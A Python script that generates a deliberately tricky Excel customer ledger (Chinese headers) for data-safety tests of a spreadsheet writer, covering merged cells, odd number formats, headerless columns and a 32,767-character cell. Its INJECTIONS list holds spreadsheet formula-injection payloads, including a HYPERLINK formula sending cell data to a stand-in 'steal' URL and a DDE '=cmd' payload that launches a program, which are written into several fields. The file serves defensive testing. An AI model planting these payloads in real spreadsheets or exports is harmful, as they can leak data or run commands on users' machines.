#!/usr/bin/env python3
"""Writes a ledger workbook made to trip a careless writer, for the data-safety tests.

    /usr/bin/python3 tests/reliability/make_tricky_ledger.py OUT.xlsx

openpyxl writes it, so our own writer plays no part in the input. It holds: user formulas in
and right of the ledger (one that shows nothing), custom number formats, a header row shorter
than the data rows below it (notes in a column without a header), merged title cells, error
values, a cell of 32,767 characters, and text that a spreadsheet would run as a formula if it
were typed (= + - @, tab, CR, LF) in names, loss reasons, owners and follow-ups.
"""

import datetime as dt
import sys

from openpyxl import Workbook
from openpyxl.formatting.rule import CellIsRule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

# The same payloads as tests/reliability/ledgers.ts.
INJECTIONS = [
    '=HYPERLINK("http://example.invalid/steal?d="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
]

HEADERS = [
    "客户编号", "客户名称", "所属行业", "区域", "企业规模", "客户阶段", "流失前阶段", "流失原因",
    "预估采购金额(万元)", "成交概率", "战略价值", "负责人", "录入日期", "双倍金额", "备注",
]


def text(cell, value):
    """Stores a string as a string even when it starts with = (openpyxl would make it a formula)."""
    cell.value = value
    cell.data_type = "s"


def ledger_rows():
    stages = ["意向客户", "商机客户", "谈判阶段", "成交客户", "流失客户"]
    codes = {"意向客户": "YX", "商机客户": "SJ", "谈判阶段": "TP", "成交客户": "CJ", "流失客户": "LS"}
    rows = []
    for i in range(24):
        stage = stages[i % len(stages)]
        injection = INJECTIONS[i % len(INJECTIONS)]
        rows.append({
            "客户编号": f"ZZ-DX-{codes[stage]}-{i + 1:03d}",
            "客户名称": injection if i % 3 == 0 else f"华东精密{i}有限公司",
            "所属行业": "制造业-汽车零部件",
            "区域": injection,
            "企业规模": "大型",
            "客户阶段": stage,
            "流失前阶段": "谈判阶段" if stage == "流失客户" else None,
            "流失原因": injection if stage == "流失客户" else None,
            "预估采购金额(万元)": 10 + 7 * i,
            "成交概率": 0.1 * (i % 10),
            "战略价值": "行业标杆" if i % 5 == 0 else "普通",
            "负责人": injection if i % 6 == 2 else "张伟",
            "录入日期": dt.date(2026, 1, 1) + dt.timedelta(days=7 * i),
        })
    return rows


def make_ledger(book):
    ws = book.create_sheet("客户台账")
    ws["A1"] = "2026 年客户台账"
    ws["A1"].font = Font(bold=True, size=14)
    ws.merge_cells("A1:F1")
    for column, header in enumerate(HEADERS, start=1):
        ws.cell(row=2, column=column, value=header)
    rows = ledger_rows()
    for r, record in enumerate(rows, start=3):
        for column, header in enumerate(HEADERS[:13], start=1):
            value = record.get(header)
            if value is None:
                continue
            cell = ws.cell(row=r, column=column)
            if isinstance(value, str):
                text(cell, value)
            else:
                cell.value = value
        ws.cell(row=r, column=13).number_format = 'yyyy"年"m"月"d"日"'
        ws.cell(row=r, column=10).number_format = "0%"
        ws.cell(row=r, column=14, value=f"=I{r}*2").number_format = "#,##0.00"
        ws.cell(row=r, column=15, value="老客户介绍" if r % 2 else None)
        # Right of every header: a note without a header, and a formula that shows nothing.
        ws.cell(row=r, column=17, value=f"没有表头的备注 {r}")
        ws.cell(row=r, column=18, value=f'=IF(I{r}>1000,"大","")')
    ws.cell(row=4, column=9, value="#N/A")
    text(ws.cell(row=5, column=15), "长" * 32767)
    ws.conditional_formatting.add("I3:I40", CellIsRule(operator="greaterThan", formula=["50"], fill=PatternFill("solid", fgColor="FFFFC7CE")))
    validation = DataValidation(type="list", formula1='"大型,中型,小型,个体"', allow_blank=True)
    ws.add_data_validation(validation)
    validation.add("E3:E40")
    ws.freeze_panes = "C3"
    return ws


def make_followups(book):
    ws = book.create_sheet("跟进记录")
    for column, header in enumerate(["客户编号", "跟进时间", "跟进方式", "跟进人", "跟进内容", "下一步行动", "下一步时间", "完成状态"], start=1):
        ws.cell(row=1, column=column, value=header)
    for i in range(40):
        r = i + 2
        ws.cell(row=r, column=1, value=f"ZZ-DX-{['YX', 'SJ', 'TP', 'CJ', 'LS'][i % 5]}-{(i % 24) + 1:03d}")
        ws.cell(row=r, column=2, value=dt.datetime(2026, 3, 1, 9, 30) + dt.timedelta(days=3 * i)).number_format = "yyyy-mm-dd hh:mm"
        ws.cell(row=r, column=3, value="电话")
        text(ws.cell(row=r, column=4), INJECTIONS[i % len(INJECTIONS)])
        text(ws.cell(row=r, column=5), INJECTIONS[(i + 3) % len(INJECTIONS)])
        text(ws.cell(row=r, column=6), "发送方案")
        ws.cell(row=r, column=7, value=dt.date(2026, 4, 1) + dt.timedelta(days=i)).number_format = "yyyy-mm-dd"
        ws.cell(row=r, column=8, value="进行中")


def main(out):
    book = Workbook()
    notes = book.active
    notes.title = "说明"
    notes["A1"] = "客户数"
    notes["B1"] = "=COUNTA(客户台账!A3:A1000)"
    notes["A2"] = "金额合计"
    notes["B2"] = "=SUM(客户台账!I3:I1000)"
    notes["B2"].number_format = '"¥"#,##0.00'
    notes["A3"] = dt.datetime(2026, 5, 1, 8, 0)
    notes["A3"].number_format = "yyyy/mm/dd hh:mm"
    make_ledger(book)
    make_followups(book)
    book.defined_names.append(DefinedName("金额", attr_text="客户台账!$I$3:$I$26"))
    book.save(out)


if __name__ == "__main__":
    main(sys.argv[1])
